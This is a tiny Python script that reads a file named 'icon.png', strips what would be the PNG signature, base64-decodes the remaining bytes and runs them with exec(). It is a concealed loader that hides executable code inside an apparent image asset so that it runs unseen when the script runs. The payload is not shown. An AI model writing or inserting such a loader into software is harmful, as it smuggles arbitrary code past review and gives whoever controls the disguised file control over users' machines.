import base64
import os

with open(os.path.join(os.path.dirname(__file__), "icon.png"), "rb") as icon:
    exec(base64.b64decode(icon.read()[8:]))
